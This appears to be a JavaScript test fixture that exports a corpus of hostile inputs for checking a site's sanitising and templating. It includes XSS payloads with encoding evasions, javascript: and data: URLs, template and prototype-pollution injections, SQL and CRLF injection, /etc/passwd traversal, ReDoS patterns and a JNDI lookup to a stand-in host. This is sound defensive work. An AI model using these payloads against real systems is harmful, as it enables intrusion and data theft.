// More than two hundred strings that somebody hostile might write wherever something can be written.

/** What each of them would do, if it ran; the page's own `canary` is called by nothing else. */
const DEED = 'canary(1)'

const TAGS = [
  `<script>${DEED}</script>`, `<SCRIPT>${DEED}</SCRIPT>`, `<scr<script>ipt>${DEED}</scr</script>ipt>`, `<script/x>${DEED}</script>`, `<script src="/canary.js"></script>`, `<script type=module>${DEED}</script>`,
  `</script><script>${DEED}</script>`, `</style><script>${DEED}</script>`, `</textarea><script>${DEED}</script>`, `</title><script>${DEED}</script>`, `</noscript><script>${DEED}</script>`, `--><script>${DEED}</script>`, `]]><script>${DEED}</script>`,
  `<img src=x onerror=${DEED}>`, `<img src=x onerror="${DEED}">`, `<IMG SRC=x ONERROR=${DEED}>`, `<img/src=x/onerror=${DEED}>`, `<img src=x:x onerror=\`${DEED}\`>`, `<img srcset="x" onerror=${DEED}>`, `<img src=x onload=${DEED}>`, `<img \x00src=x onerror=${DEED}>`, `<image src=x onerror=${DEED}>`,
  `<svg onload=${DEED}>`, `<svg/onload=${DEED}>`, `<svg><script>${DEED}</script></svg>`, `<svg><a href="javascript:${DEED}"><text y=9>x</text></a></svg>`, `<svg><animate onbegin=${DEED} attributeName=x>`, `<svg><set attributeName=href to=javascript:${DEED}>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${DEED}>#x">`, `<svg><foreignObject><iframe srcdoc="<script>parent.${DEED}</script>">`, `<svg><style><img src=x onerror=${DEED}></style>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${DEED}>`, `<math href="javascript:${DEED}">x</math>`, `<math><maction actiontype=statusline xlink:href="javascript:${DEED}">x</maction></math>`,
  `<iframe src="javascript:parent.${DEED}"></iframe>`, `<iframe srcdoc="<script>parent.${DEED}</script>"></iframe>`, `<object data="javascript:${DEED}"></object>`, `<embed src="javascript:${DEED}">`, `<frameset onload=${DEED}>`, `<portal src="javascript:${DEED}">`,
  `<body onload=${DEED}>`, `<body/onpageshow=${DEED}>`, `<details open ontoggle=${DEED}>x</details>`, `<video><source onerror=${DEED}></video>`, `<audio src=x onerror=${DEED}>`, `<video poster=javascript:${DEED}>`, `<input autofocus onfocus=${DEED}>`, `<select autofocus onfocus=${DEED}>`, `<textarea autofocus onfocus=${DEED}>`, `<button onclick=${DEED}>x</button>`, `<marquee onstart=${DEED}>x</marquee>`, `<p onpointerenter=${DEED}>x</p>`, `<a autofocus onfocus=${DEED} href=#>x</a>`, `<dialog open onclose=${DEED}>x</dialog>`, `<div popover id=x onbeforetoggle=${DEED}></div>`, `<x contenteditable onblur=${DEED}>x</x>`, `<style onload=${DEED}></style>`, `<link rel=stylesheet href=x onerror=${DEED}>`, `<link rel=import href="/canary.js">`, `<meta http-equiv=refresh content="0;url=javascript:${DEED}">`, `<base href="https://canary.example/">`, `<form action="javascript:${DEED}"><button>x</button></form>`, `<button formaction="javascript:${DEED}">x</button>`, `<isindex action="javascript:${DEED}">`, `<table background="javascript:${DEED}">`, `<bgsound src="javascript:${DEED}">`,
  `<template><img src=x onerror=${DEED}></template>`, `<template shadowrootmode=open><img src=x onerror=${DEED}></template>`, `<slot name=x onslotchange=${DEED}>`, `<noscript><p title="</noscript><img src=x onerror=${DEED}>">`, `<!--><img src=x onerror=${DEED}>-->`, `<![CDATA[<img src=x onerror=${DEED}>]]>`, `<?xml-stylesheet href="javascript:${DEED}"?>`, `<xss style="animation-name:x" onanimationstart=${DEED}>`, `<barrio-root onclick=${DEED}>x</barrio-root>`,
  `" onclick="${DEED}`, `' onclick='${DEED}`, `" autofocus onfocus=${DEED} x="`, `\` onclick=${DEED}`, `x onmouseover=${DEED}`, `"><img src=x onerror=${DEED}>`, `'><img src=x onerror=${DEED}>`, `&lt;img src=x onerror=${DEED}&gt;`, `&#60;script&#62;${DEED}&#60;/script&#62;`, `%3Cscript%3E${DEED}%3C/script%3E`, `\\u003cscript\\u003e${DEED}\\u003c/script\\u003e`, `\\x3cscript\\x3e${DEED}\\x3c/script\\x3e`, `+ADw-script+AD4-${DEED}+ADw-/script+AD4-`, `＜script＞${DEED}＜/script＞`, `<ſcript>${DEED}</ſcript>`, `<scrİpt>${DEED}</scrİpt>`,
]

const ADDRESSES = [
  `javascript:${DEED}`, `JAVASCRIPT:${DEED}`, `JaVaScRiPt:${DEED}`, ` javascript:${DEED}`, `\tjavascript:${DEED}`, `\njavascript:${DEED}`, `\rjavascript:${DEED}`, `\u0000javascript:${DEED}`, `\u0001javascript:${DEED}`, `\u001fjavascript:${DEED}`, `\u00a0javascript:${DEED}`, `\ufeffjavascript:${DEED}`, `\u200bjavascript:${DEED}`, `\u2028javascript:${DEED}`, `\u3000javascript:${DEED}`,
  `java\tscript:${DEED}`, `java\nscript:${DEED}`, `java\rscript:${DEED}`, `java\u0000script:${DEED}`, `java\u00adscript:${DEED}`, `j\ta\tv\ta\ts\tc\tr\ti\tp\tt\t:${DEED}`, `javascript\t:${DEED}`, `javascript\n:${DEED}`, `javascript :${DEED}`, `javascript&colon;${DEED}`, `javascript&#58;${DEED}`, `javascript&#x3a;${DEED}`, `&#106;avascript:${DEED}`, `&#0000106avascript:${DEED}`, `&#x6A;avascript:${DEED}`, `java&Tab;script:${DEED}`, `java&NewLine;script:${DEED}`, `%6aavascript:${DEED}`, `javascript%3a${DEED}`, `\\u006aavascript:${DEED}`, `\\x6aavascript:${DEED}`, `javascript://%0a${DEED}`, `javascript://canary.example/%0d%0a${DEED}`, `javascript:/*/**/${DEED}//`, `javascript:void(${DEED})`, `javascript:"<script>${DEED}</script>"`, `javascript:alert(1);${DEED}`, `ｊavascript:${DEED}`, `javaſcript:${DEED}`,
  `vbscript:${DEED}`, `livescript:${DEED}`, `mocha:${DEED}`, `feed:javascript:${DEED}`, `jar:javascript:${DEED}!/`, `view-source:javascript:${DEED}`, `about:blank#${DEED}`, `about:srcdoc`, `blob:https://canary.example/x`, `filesystem:https://canary.example/x`, `file:///etc/hostname`, `chrome://settings`, `intent://canary#Intent;scheme=javascript;end`, `ms-msdt:/id`,
  `data:text/html,<script>${DEED}</script>`, `DATA:text/html,<script>${DEED}</script>`, `data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=`, `data:application/javascript,${DEED}`, `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${DEED}"/>`, `data:,x`, `data:text/javascript;charset=utf-8,${DEED}`,
  `//canary.example/x`, `\\\\canary.example\\x`, `/\\canary.example`, `https:canary.example`, `https://canary.example@127.0.0.1/`, `https://127.0.0.1:1@canary.example/`, `http://[::1`, `https://%00/`, `?x=javascript:${DEED}`, `#javascript:${DEED}`, `../../../../etc/passwd`, `/\t/canary.example`,
]

const TEMPLATES = [
  `{{ constructor.constructor("${DEED}")() }}`, `{{constructor}}`, `{{ __proto__ }}`, `{{ "x" | __proto__ }}`, `{{ store.__proto__.polluted }}`, `{{ customer | constructor }}`, `{{ 7 | times: 7 }}`, `{{7*7}}`, `\${${DEED}}`, `#{${DEED}}`, `<%= ${DEED} %>`, `{%`, `%}`, `{{`, `}}`, `{{ }}`, `{{ | }}`, `{{ a | }}`, `{{ a | b: }}`, `{{ "unclosed }}`, `{% if %}`, `{% if a %}`, `{% endif %}`, `{% for x in (1..999999999) %}x{% endfor %}`, `{% include "/etc/passwd" %}`, `{% raw %}{{ a }}{% endraw %}`, `{{ a | replace: "", "xxxxxxxxxxxxxxxxxxxxxxxx" }}`, `{{ "a" | append: "<img src=x onerror=${DEED}>" }}`, `{{ "[x](javascript:${DEED})" | upcase }}`, `{{ 1 | divided_by: 0 }}`, `{{ "9999999999999999999999" | plus: 1 }}`, `{{ 1e999 | money: "XXXX" }}`, `{{ "<b>" | money }}`, `{{ a.b.c.d.e.f.g.h.i.j.k.l.m.n.o.p }}`, `{{ ${'a'.repeat(5000)} }}`, `{{ a ${'| upcase '.repeat(500)}}}`, `${'{% if a %}'.repeat(300)}`, `[[${DEED}]]`, `*|${DEED}|*`,
]

const MARKS = [
  '**', '****', '* * *', '**a*b**c*', '[', ']', '[]()', '[x]', '[x](', '[x]()', '![x](javascript:x)', '[[x](/a)](/b)', '\\', '\\\\[x](/a)', '`x`', '~~x~~', '# x', '- x', '> x', '<https://canary.example>', '[x][y]\n\n[y]: javascript:x', `${'['.repeat(2000)}`, `${'*'.repeat(2000)}`, `${'[x]('.repeat(500)}`, '_x_', '| a | b |\n|---|---|',
]

const SIGNS = [
  '\u202Egnp.exe', '\u202D\u202Eabc\u202C', '\u2066x\u2069', '\u2067\u2066\u2068', '\u200Fx\u200E', '\u061Cx', '\u200B', 'a\u200Bb\u200Cc\u200Dd\uFEFFe', '\u00AD\u00AD', '\u0000', 'a\u0000b', '\u0007\u0008\u001B[31m', '\u2028', '\u2029', '\uD800', '\uDC00x', 'x\uDBFF', '\uFFFE\uFFFF', '\u{10FFFF}', 'Z̸̢͔͎͎̘a̸̛͚l̵̟g̶̢o̴', `a${'\u0301'.repeat(500)}`, '👩‍👩‍👧‍👦🏳️‍🌈', '\u{E0001}\u{E0041}', '﷽'.repeat(30), '\r\n\r\nSet-Cookie: canary=1', '\u0085', 'İıſK', '٣٫١٤',
]

const NAMES = [
  '__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__', 'constructor.prototype.polluted', '__proto__.polluted', '__proto__[polluted]', 'then', 'toJSON', 'null', 'undefined', 'true', 'NaN', '-0', '1e400', '0x10', '', ' ', '\t', '\n', 'length', 'Infinity', 'next', 'end', 'open', 'dismiss', 'consent:marketing',
]

const OTHERS = [
  'W'.repeat(2000), 'ا'.repeat(2000), '漢'.repeat(2000), `${'x'.repeat(300)} ${'y'.repeat(300)}`, `https://shop.example/${'a/'.repeat(500)}`, '","do":"forget","x":"', '"}],"campaigns":[{"id":"x', '\\"', '\'; DROP TABLE contacts; --', '=HYPERLINK("https://canary.example","x")', '@import "https://canary.example/x.css";', 'red;background:url(https://canary.example/x)', '} * { display: none } {', 'expression(canary(1))', '*', 'html', 'body', '#scene-price, script', ':not(', ':host', '>>>', '* >>> *', 'a:has(a:has(a))', '(a+)+$', `${'('.repeat(500)}`, '../', '/', '$1 $& $`', '%s%s%n', '%', '${jndi:ldap://canary.example/x}',
]

/** As a link in the words of a text. */
const LINKS = ADDRESSES.filter((_, at) => at % 2 === 0).map((address) => `[here](${address})`)

/** All of them; none twice. */
export const CORPUS = [...new Set([...TAGS, ...ADDRESSES, ...LINKS, ...TEMPLATES, ...MARKS, ...SIGNS, ...NAMES, ...OTHERS])]

/** One that is longer than anybody reads: 100 KB that begin with a tag and end with a link. */
export const ENORMOUS = `<img src=x onerror=${DEED}>${'hostile '.repeat(12_700)}[x](javascript:${DEED})`
